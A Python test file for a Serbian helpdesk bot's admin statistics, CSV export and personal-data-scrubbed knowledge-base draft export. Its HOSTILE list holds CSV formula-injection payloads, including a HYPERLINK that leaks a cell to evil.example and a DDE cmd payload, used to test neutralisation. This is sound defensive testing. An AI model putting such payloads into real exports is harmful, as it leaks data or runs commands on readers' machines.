"""Admins' reports (/statistika, /izvoz) and the KB drafts export, on real databases."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import UTC, timedelta
from pathlib import Path

import pytest
import yaml

from bot.services.mentoring import MentorConfig, MentoringService
from bot.services.reports import ReportService, group_similar, percentile
from bot.services.roles import RoleService
from bot.services.users import UserService
from storage.uow import Database
from tests.fakes.clock import Clock, ordinary_wednesday

ROOT = Path(__file__).resolve().parents[2]
NOW = ordinary_wednesday(12).astimezone(UTC)  # a working Wednesday noon after the real today


@pytest.fixture
def clock() -> Clock:
    """The clock of `database` (tests/conftest.py) and of the services: NOW until moved."""
    return Clock(NOW)


async def _seed(database: Database, clock: Clock) -> None:
    users = UserService(database, frozenset({"900"}))
    roles = RoleService(database, frozenset({"900"}))
    admin = await users.get_or_register("telegram", "900", display_name="Admin")
    await roles.grant(admin, "201", "mentor")
    marko = await users.get_or_register("telegram", "201", display_name="Marko")
    clerk = await users.get_or_register("telegram", "101", display_name="Milica")
    clerk = await users.set_municipality(clerk.id, "Čačak")
    mentoring = MentoringService(database, MentorConfig(mentor_chat_id=-1), clock=clock)
    unanswered = [
        "kako da promenim lozinku za esanduce",
        "kako promeniti lozinku esanduce",
        "promena lozinke za eSanduče",
        "gde je uputstvo za epecat",
    ]
    async with database.uow() as uow:
        for i in range(6):
            await uow.questions.add(
                user_id=clerk.id, text=f"pitanje {i}", decision="answer",
                entry_id="ezup-login", created_at=NOW - timedelta(days=1, minutes=i),
            )
        ids = []
        for text in unanswered:
            row = await uow.questions.add(
                user_id=clerk.id, text=text, decision="escalate", created_at=NOW - timedelta(days=2)
            )
            ids.append(row.id)
        await uow.questions.add(  # older than a week: only in the 30-day figures
            user_id=clerk.id, text="staro", decision="answer", entry_id="ezup-login",
            created_at=NOW - timedelta(days=20),
        )
        await uow.commit()
    for minutes, question_id in zip((30, 90, 600), ids, strict=False):
        clock.now = NOW - timedelta(days=2)
        number = (await mentoring.create_request(clerk, question_id=question_id)).number
        assert number is not None
        clock.now += timedelta(minutes=minutes)
        await mentoring.answer(marko, number, "Odgovor.")
        await mentoring.clerk_resolved(clerk, number)
        await mentoring.rate(clerk, number, 4 if minutes < 100 else 2)
    clock.now = NOW - timedelta(hours=1)
    await mentoring.create_request(clerk, question_id=ids[3])  # still open
    clock.now = NOW


async def test_statistics_for_admins_with_chart_and_csv(database: Database, clock: Clock):
    await _seed(database, clock)
    users = UserService(database, frozenset({"900"}))
    admin = await users.get_or_register("telegram", "900")
    reports = ReportService(database, clock=clock)
    report = await reports.build()
    week, month = report.periods
    assert (week.questions, month.questions) == (10, 11)
    assert week.answered_by_bot == 6 and week.escalations == 4
    assert week.median_minutes == 90 and week.p90_minutes is not None
    assert 90 < week.p90_minutes <= 600
    assert sorted(week.ratings) == [2, 4, 4]
    assert report.open_requests == 1
    assert week.per_municipality["Čačak"]["questions"] == 10
    top = week.unanswered[0]
    assert top.count == 3 and "lozink" in top.example

    reply, png = await reports.statistics(admin)
    assert "Poslednjih 7 dana" in reply.text and "Čačak" in reply.text
    assert png is not None and png.startswith(b"\x89PNG")
    _reply, data = await reports.export_csv(admin)
    assert data is not None
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    assert {"section": "summary", "period_days": "7", "key": "", "metric": "questions",
            "value": "10"} in rows
    assert any(r["section"] == "week" for r in rows)


async def test_statistics_are_for_admins_only(database: Database):
    users = UserService(database)
    clerk = await users.get_or_register("telegram", "555")
    reports = ReportService(database)
    reply, png = await reports.statistics(clerk)
    assert png is None and "samo administratorima" in reply.text
    reply, data = await reports.export_csv(clerk)
    assert data is None


def test_percentiles_and_grouping():
    assert percentile([], 50) is None
    assert percentile([10, 20, 30, 40], 50) == 25
    assert percentile([1.0] * 9 + [100.0], 90) == pytest.approx(10.9)
    groups = group_similar(["Kako da promenim lozinku?", "kako promeniti lozinku", "eID kartica"])
    assert [g.count for g in groups] == [2, 1]


async def test_drafts_export_writes_kb_yaml_without_personal_data(
    database: Database, database_url: str, tmp_path: Path, clock: Clock
):
    users = UserService(database, frozenset({"900"}))
    roles = RoleService(database, frozenset({"900"}))
    admin = await users.get_or_register("telegram", "900", display_name="Admin")
    await roles.grant(admin, "201", "mentor")
    marko = await users.get_or_register("telegram", "201", display_name="Marko Marković")
    clerk = await users.get_or_register("telegram", "101", display_name="Milica Jovanović")
    mentoring = MentoringService(database, MentorConfig(), clock=clock)
    created = await mentoring.create_request(
        clerk,
        text="Gospođa Jelena Savić, JMBG 1505985715012, tel. +381 64 555 1234, "
        "jelena.savic@gmail.com, ne može da otvori eSanduče. Hvala, Milica Jovanović",
    )
    assert created.number is not None
    await mentoring.answer(marko, created.number, "Neka proveri & < > prijavu preko eID-a.")
    assert (await mentoring.add_to_knowledge_base(marko, created.number)).ok

    out = tmp_path / "drafts"
    env = {**os.environ, "DATABASE_URL": database_url}
    result = subprocess.run(
        [sys.executable, "-m", "bot", "drafts", "export", str(out)],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=60,
    )
    assert result.returncode == 0, result.stderr
    (path,) = sorted(out.glob("*.yaml"))
    content = path.read_text(encoding="utf-8")
    for secret in ("Jelena", "Savić", "1505985715012", "555 1234", "jelena.savic", "Milica",
                   "Jovanović", "Marković"):
        assert secret not in content, secret
    (entry,) = yaml.safe_load(content)
    assert {"id", "service", "question", "alternatives", "answer", "reviewed"} <= set(entry)
    assert entry["id"].startswith("draft-") and entry["alternatives"]
    assert "ne može da otvori eSanduče" in entry["question"]
    assert "&amp; &lt; &gt;" in entry["answer"]


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


async def test_csv_export_neutralises_formulas_in_user_text(database: Database, clock: Clock):
    users = UserService(database, frozenset({"900"}))
    admin = await users.get_or_register("telegram", "900", display_name="Admin")
    clerk = await users.get_or_register("telegram", "101", display_name="Milica")
    clerk = await users.set_municipality(clerk.id, "Čačak")
    async with database.uow() as uow:
        for i, text in enumerate(HOSTILE):
            await uow.questions.add(
                user_id=clerk.id, text=text, decision="escalate",
                created_at=NOW - timedelta(days=1, minutes=i),
            )
        await uow.commit()
    reports = ReportService(database, clock=clock)
    _reply, data = await reports.export_csv(admin)
    assert data is not None
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    cells = [value for row in rows for value in row.values() if isinstance(value, str)]
    assert cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    unanswered = {row["key"] for row in rows if row["section"] == "unanswered"}
    assert "'" + HOSTILE[0] in unanswered


def test_safe_cell_only_touches_formula_text():
    from bot.csv_safe import safe_cell

    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("\rx") == "'\rx"
    assert safe_cell("obična rečenica - sa crticom") == "obična rečenica - sa crticom"
    assert safe_cell(-3) == -3 and safe_cell(0.5) == 0.5


def test_every_csv_writer_goes_through_the_safe_helper():
    """New exports must use bot.csv_safe.writer, not csv.writer/DictWriter directly."""
    offenders = []
    for folder in ("bot", "handlers", "storage", "knowledge_base"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.name == "csv_safe.py":
                continue
            text = path.read_text(encoding="utf-8")
            if "csv.writer(" in text or "DictWriter(" in text:
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
